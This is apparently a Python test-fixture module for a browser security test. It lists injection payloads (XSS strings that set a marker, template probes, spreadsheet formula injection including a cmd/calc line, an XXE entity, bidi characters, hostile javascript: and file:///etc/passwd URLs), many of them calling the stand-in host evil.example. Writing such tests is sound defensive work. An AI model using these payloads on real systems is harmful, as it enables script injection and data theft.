"""What a stranger may write into a text or an address to make a page, a table or a program do something.

Each of them, once run, sets ``__pwned``, opens a dialog or asks another host: a browser test watches all three.
"""

from __future__ import annotations

#: Whole texts, put behind one another into every text field.
PAYLOADS = (
    # elements and attributes
    "<script>__pwned=1</script>", "<ScRiPt >__pwned=2</sCrIpT >", "<img src=x onerror=__pwned=3>", "<svg/onload=__pwned=4>",
    "<svg><script>__pwned=5</script></svg>", "<svg><animate onbegin=__pwned=6 attributeName=x dur=1s>", "<iframe srcdoc='<script>parent.__pwned=7</script>'>",
    "<details open ontoggle=__pwned=8>", "<input autofocus onfocus=__pwned=9>", "<body onpageshow=__pwned=10>", "<video><source onerror=__pwned=11></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__pwned=12>", "<object data='javascript:__pwned=13'></object>", "<embed src='javascript:__pwned=14'>",
    "<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/b.css';*{background:url(//evil.example/c)}</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<form action=//evil.example/><button>a</button></form>",
    # out of an attribute, a string, a comment, a script, a style
    "\" onmouseover=__pwned=20 x=\"", "' onfocus=__pwned=21 tabindex=0 autofocus '", "`onload=__pwned=22`", "\"><img src=x onerror=__pwned=23>",
    "</title><script>__pwned=24</script>", "</textarea><script>__pwned=25</script>", "</script><script>__pwned=26</script>", "</style><script>__pwned=27</script>",
    "</template><img src=x onerror=__pwned=28>", "<!--><script>__pwned=29</script>-->", "]]><script>__pwned=30</script>", "*/__pwned=31/*", "\\\"};__pwned=32;//",
    "');__pwned=33;//", "\\u003cimg src=x onerror=__pwned=34\\u003e", "&lt;img src=x onerror=__pwned=35&gt;", "&#60;script&#62;__pwned=36&#60;/script&#62;", "<![CDATA[<script>__pwned=37</script>]]>",
    # templates and expressions
    "{{7*7}}", "{{ ''.__class__.__mro__ }}", "{% for x in (1,2) %}{{x}}{% endfor %}", "{# gone #}", "${__pwned=38}", "#{7*7}", "<%= 7*7 %>", "{0}{value}{n:a|b}", "%(value)s %s %d",
    "datum.value", "signal", "[datum['x'],event.view.__pwned=39]", "warn('a')+datum['constructor']", "{\"signal\":\"__pwned=40\"}",
    # Markdown, and what GitHub makes of it
    "[a](javascript:__pwned=41)", "![a](//evil.example/d.png)", "<javascript:__pwned=42>", "[b]: javascript:__pwned=43", "**e** _f_ `g` ~~h~~", "@everyone #1 GH-2 https://evil.example/",
    "| a | b |", "[[signs]]", "<!-- minhbach -->",
    # tables and calendars
    "=cmd|'/c calc'!A1", ";=1+1", "\"\";=HYPERLINK(\"//evil.example\")", "\\nATTENDEE:mailto:a@evil.example", "END:VEVENT", "&x;", "<!ENTITY x SYSTEM '//evil.example'>",
    # letters that turn, hide or join others (a file cannot hold most of them; a record here does)
    "\u202eevil\u202c", "\u2066a\u2069", "\u2028__pwned=44\u2029", "\ufeff", "a\u0300\u0301\u0302\u0303\u0304\u0306",
)  # fmt: skip
#: What a spreadsheet, some kind of Markdown or a header takes for its own only at the beginning of a text.
LEADING = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", " =1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "''=1+1", "%=1+1",
    "=HYPERLINK(\"//evil.example\",\"a\")", "=IMPORTXML(\"//evil.example\",\"//a\")", "# a", "- a", "1. a", "> a", "```", "---", "<script>__pwned=60</script>",
    "javascript:__pwned=61", "data:text/html,<script>__pwned=62</script>", "//evil.example/", "/\\evil.example", "BEGIN:VCALENDAR",
)  # fmt: skip
#: No address of the web: refused wherever an address is read.
NO_ADDRESSES = (
    "javascript:__pwned=70", "JaVaScRiPt:__pwned=71", " javascript:__pwned=72", "java\tscript:__pwned=73", "javascript&colon;__pwned=74", "data:text/html,<script>__pwned=75</script>",
    "data:image/svg+xml,<svg onload=__pwned=76>", "vbscript:x", "file:///etc/passwd", "blob:https://a/b", "about:blank", "view-source:https://a", "//evil.example/", "\\\\evil.example", "/tinh/",
    "https://a b", "https://a\"onclick=\"__pwned=77", "https://a><script>__pwned=78</script>", "https://a\n\nb", "http:", "https:///", "ftp://a", "mailto:a@b", "intent://a", "\u202ehttps://a",
)  # fmt: skip
#: Addresses of the web that are meant to become something else on their way into a page.
ADDRESSES = (
    "https://evil.example/'onmouseover='__pwned=80", "https://evil.example/`${__pwned=81}`", "https://evil.example/{{7*7}}{%raw%}", "https://javascript:__pwned=82@evil.example/",
    "https://evil.example/&quot;onclick=__pwned=83", "https://evil.example/%22%3E%3Cscript%3E__pwned=84%3C/script%3E", "https://evil.example/)](javascript:__pwned=85)", "https://evil.example/\\');__pwned=86;//",
    "https://evil.example/|=1+1;=1+1", "https://evil.example/#</script>".replace("<", "%3C"), "http://[::1]/", "https://evil.example:99999/",
)  # fmt: skip
